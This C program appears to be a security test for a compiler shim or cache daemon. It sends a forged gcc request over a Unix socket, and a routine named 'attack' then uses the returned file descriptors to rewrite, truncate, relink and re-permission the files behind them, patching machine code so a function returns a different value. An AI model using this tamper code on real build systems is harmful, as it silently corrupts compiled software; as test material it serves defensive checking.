/* descriptors COMPILER ARGUMENTS...: makes a compiler call as a shim does, and uses the
 * descriptors that come with the answer to change the files behind them: mode, times,
 * content, length. Says how many came; ends with 0 if any did. */
#include <fcntl.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/un.h>
#include <unistd.h>

extern char **environ;
static unsigned char frame[1 << 20];
static uint32_t used = 8;

static void number(uint32_t value) {
    memcpy(frame + used, &value, 4);
    used += 4;
}

static void string(const char *text) {
    uint32_t length = strlen(text);
    if (used + length + 4 > sizeof frame)
        exit(3);
    number(length);
    memcpy(frame + used, text, length);
    used += length;
}

/* What the victim's function returns, 41, becomes 66. */
static void falsify(unsigned char *bytes, size_t length) {
    for (size_t i = 0; i + 4 < length; i++)
        if (bytes[i] == 0xb8 && bytes[i + 1] == 41)
            bytes[i + 1] = 66;
}

static void attack(int file) {
    char path[64];
    static unsigned char bytes[1 << 20];
    struct stat stat;
    if (fstat(file, &stat))
        return;
    ssize_t length = pread(file, bytes, sizeof bytes, 0);
    if (length < 0)
        length = 0;
    falsify(bytes, length);
    snprintf(path, sizeof path, "/proc/self/fd/%d", file);
    fchmod(file, 0666);
    chmod(path, 0666);
    pwrite(file, bytes, length, 0);
    ftruncate(file, 1);
    int writable = open(path, O_RDWR);
    if (writable >= 0) {
        pwrite(writable, bytes, length, 0);
        void *map = length ? mmap(0, length, PROT_READ | PROT_WRITE, MAP_SHARED, writable, 0) : MAP_FAILED;
        if (map != MAP_FAILED)
            falsify(map, length);
        /* Beyond its end, so that a program made of it still runs. */
        pwrite(writable, "changed", 7, length);
        close(writable);
    }
    struct timespec times[2] = {{1000000000, 0}, {1000000000, 0}};
    futimens(file, times);
    linkat(AT_FDCWD, path, AT_FDCWD, "linked", AT_SYMLINK_FOLLOW);
    if (!chmod("linked", 0777) && truncate("linked", length + 8)) {
    }
    unlink("linked");
    fchmod(file, stat.st_mode & 07777);
}

int main(int argc, char **argv) {
    int count = 0, connection = socket(AF_UNIX, SOCK_STREAM, 0);
    struct sockaddr_un address = {AF_UNIX, "/.droste/socket"};
    char cwd[4096];
    if (argc < 3 || !getcwd(cwd, sizeof cwd) || connect(connection, (void *)&address, sizeof address)) {
        perror("connect");
        return 1;
    }
    frame[used++] = 1;
    frame[used++] = 0;
    frame[used++] = 0;
    frame[used++] = 0;
    string(cwd);
    string(argv[1]);
    string(argv[1]);
    number(argc - 1);
    string("gcc");
    for (int i = 2; i < argc; i++)
        string(argv[i]);
    while (environ[count])
        count++;
    number(count);
    for (int i = 0; i < count; i++)
        string(environ[i]);
    memcpy(frame, "DRS3", 4);
    uint32_t body = used - 8;
    memcpy(frame + 4, &body, 4);
    if (write(connection, frame, used) != (ssize_t)used)
        return 1;

    char answer[4096], control[4096];
    struct iovec vector = {answer, sizeof answer};
    struct msghdr message = {.msg_iov = &vector, .msg_iovlen = 1, .msg_control = control, .msg_controllen = sizeof control};
    ssize_t got = recvmsg(connection, &message, 0);
    struct cmsghdr *header = CMSG_FIRSTHDR(&message);
    if (!header) {
        printf("no descriptors: %.*s\n", got > 13 ? (int)got - 13 : 0, answer + 13);
        return 2;
    }
    int *files = (int *)CMSG_DATA(header), files_count = (header->cmsg_len - CMSG_LEN(0)) / sizeof *files;
    for (int i = 0; i < files_count; i++)
        attack(files[i]);
    printf("%d descriptors\n", files_count);
    return files_count < 3;
}
